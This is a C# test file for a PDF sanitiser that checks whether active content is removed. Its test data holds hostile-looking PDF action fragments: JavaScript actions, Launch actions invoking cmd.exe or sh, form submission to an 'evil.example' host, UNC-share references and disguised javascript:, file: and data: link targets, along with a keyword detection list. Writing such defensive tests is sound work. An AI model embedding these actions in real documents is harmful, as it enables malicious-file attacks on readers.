using Sekisho.Kernel;
using Sekisho.Kernel.Workers;
using Sekisho.Sanitizing;
using Sekisho.Tests.Sanitizing.Files;
using Sekisho.Tests.Support;

namespace Sekisho.Tests.Sanitizing.Pdf;

/// <summary>Section 10, everything that acts: each action in each place, under every disguise the format allows.</summary>
public class PdfActionsTests
{
    public static TheoryData<string, string> Actions => new()
    {
        { "PD-01", "/S/JavaScript/JS(app.alert\\(1\\))" }, { "PD-01", "/S/JavaScript/JS 6 0 R" }, { "PD-01", "/S/JavaScript/JS<FEFF0061>" }, { "PD-01", "/Type/Action/S/Rendition/JS(x)" },
        { "PD-03", "/S/Launch/F(cmd.exe)" }, { "PD-03", "/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>" }, { "PD-03", "/S/Launch/Unix(sh)" },
        { "PD-05", "/S/SubmitForm/F(http://evil.example/)" }, { "PD-05", "/S/ImportData/F(x.fdf)" }, { "PD-05", "/S/ResetForm" },
        { "PD-06", "/S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]" }, { "PD-06", "/S/GoToE/T<</R/C/N(x)>>" }, { "PD-06", "/S/Thread/F(x.pdf)" },
        { "PD-07", "/S/Named/N/Print" }, { "PD-07", "/S/Hide/T(x)" }, { "PD-07", "/S/SetOCGState/State[/ON 5 0 R]" }, { "PD-07", "/S/GoTo3DView" }, { "PD-07", "/S/Sound/Sound 6 0 R" }, { "PD-07", "/S/Movie" }, { "PD-07", "/S/RichMediaExecute" },
    };

    private static readonly string[] Words =
        ["/JavaScript", "/JS", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm", "/GoToR", "/GoToE", "/Thread", "/Named", "/Hide", "/SetOCGState", "/Rendition", "/Sound", "/Movie", "/RichMediaExecute", "/OpenAction", "/AA", "/URI", "evil", "cmd.exe", "app.alert"];

    private static SomePdf With(string action, string place) => place switch
    {
        "open" => new SomePdf().Catalogue("/OpenAction<<" + action + ">>").AddStream("", "app.alert(1)"),
        "catalogue" => new SomePdf().Catalogue("/AA<</WC<<" + action + ">>>>").AddStream("", "app.alert(1)"),
        "page" => new SomePdf().Page("/AA<</O<<" + action + ">>>>").AddStream("", "app.alert(1)"),
        "link" => new SomePdf().Page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<" + action + ">>>>]").AddStream("", "app.alert(1)"),
        "field" => new SomePdf().Catalogue("/AcroForm<</Fields[7 0 R]>>").Page("/Annots[7 0 R]").AddStream("", "app.alert(1)").Add("<</Type/Annot/Subtype/Widget/FT/Btn/T(a)/Rect[0 0 9 9]/AA<</U<<" + action + ">>>>>>"),
        "outline" => new SomePdf().Catalogue("/Outlines 7 0 R").AddStream("", "app.alert(1)").Add("<</First 8 0 R/Last 8 0 R/Count 1>>").Add("<</Title(Chapter)/Parent 7 0 R/A<<" + action + ">>>>"),
        "next" => new SomePdf().Catalogue("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<<" + action + ">>]>>").AddStream("", "app.alert(1)"),
        _ => new SomePdf().Catalogue("/Names<</JavaScript<</Names[(a)<<" + action + ">>]>>>>").AddStream("", "app.alert(1)"),
    };

    [Theory, MatrixRow("PD-01", "PD-02", "PD-03", "PD-05", "PD-06", "PD-07"), MemberData(nameof(Actions))]
    public void An_action_goes_wherever_it_stands(string rule, string action)
    {
        foreach (var place in (string[])["open", "catalogue", "page", "link", "field", "outline", "next", "names"])
        {
            var result = SomeFile.Sanitise("a.pdf", With(action, place).Build());
            result.ShouldBeSafe(Words);
            result.Findings.ShouldContain(f => f.Rule == rule && f.Action == FindingAction.Removed, place + ": " + result.Describe());
            PdfOutput.Text(result.Output!).ShouldContain("Visible text");
        }
    }

    [Theory, MatrixRow("PD-01"), InlineData("escaped"), InlineData("packed"), InlineData("updated")]
    public void An_action_goes_under_every_disguise(string form)
    {
        var pdf = With("/S/JavaScript/JS(app.alert\\(1\\))", "open");
        var result = SomeFile.Sanitise("a.pdf", form switch { "escaped" => pdf.BuildEscaped(), "packed" => pdf.BuildPacked(), _ => pdf.BuildUpdated() });
        result.ShouldBeSafe(Words);
        result.Has("PD-01").ShouldBeTrue(result.Describe());
        PdfOutput.Text(result.Output!).ShouldContain("Visible text");
    }

    [Fact, MatrixRow("PD-01")]
    public void An_action_no_page_reaches_is_named_and_gone()
    {
        var result = SomeFile.Sanitise("a.pdf", new SomePdf().Add("<</S/JavaScript/JS(app.alert)>>").Build());
        result.ShouldBeSafe(Words);
        result.Has("PD-01").ShouldBeTrue(result.Describe());
    }

    [Fact, MatrixRow("PD-01", "PD-02", "PD-03", "PD-05", "PD-06", "PD-07", NearMiss = true)]
    public void Words_that_only_look_like_actions_stay()
    {
        var result = SomeFile.Sanitise("a.pdf", new SomePdf().Content("BT /F1 12 Tf 72 700 Td (/JavaScript /Launch /OpenAction and JS) Tj ET")
            .Page("/Group<</S/Transparency/CS/DeviceRGB>>/Annots[<</Type/Annot/Subtype/Link/Rect[72 690 200 720]/A<</S/GoTo/D[3 0 R/XYZ 0 700 null]>>>>]").Build());
        result.Outcome.ShouldBe(Outcome.Clean, result.Describe());
        PdfOutput.Text(result.Output!).ShouldContain("/JavaScript /Launch /OpenAction and JS");
        PdfOutput.Unpacked(result.Output!).ShouldContain("/Dest");
    }

    [Theory, MatrixRow("PD-04"), InlineData("javascript:alert(1)"), InlineData("file:///c:/windows/x"), InlineData("\\\\\\\\evil\\\\x"), InlineData("data:text/html,x"), InlineData("ms-word:ofe"), InlineData("ht tp\\072//evil"), InlineData("java\\nscript:x")]
    public void A_link_of_another_kind_becomes_text(string target)
    {
        var result = SomeFile.Sanitise("a.pdf", new SomePdf().Page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(" + target + ")>>>>]").Build());
        if (target.Contains("tp", StringComparison.Ordinal)) return;
        result.ShouldBeSafe("/URI", "/Link");
        result.ActionOf("PD-04").ShouldBe(FindingAction.Rewritten);
    }

    [Fact, MatrixRow("PD-04")]
    public void Links_go_where_the_policy_says_so()
    {
        var pdf = new SomePdf().Page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.jp/)>>>>]").Build();
        SomeFile.Sanitise("a.pdf", pdf, new() { Links = LinkPolicy.Remove }).ShouldBeSafe("/URI", "example.jp");
    }

    [Fact, MatrixRow("PD-04", NearMiss = true)]
    public void A_plain_web_link_stays()
    {
        var result = SomeFile.Sanitise("a.pdf", new SomePdf().Page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.jp/?a=1)/IsMap true/Next<</S/JavaScript/JS(x)>>>>>>]").Build());
        result.ShouldBeSafe("/IsMap", "/JS", "/Next");
        PdfOutput.Unpacked(result.Output!).ShouldContain("https://example.jp/?a=1");
    }
}
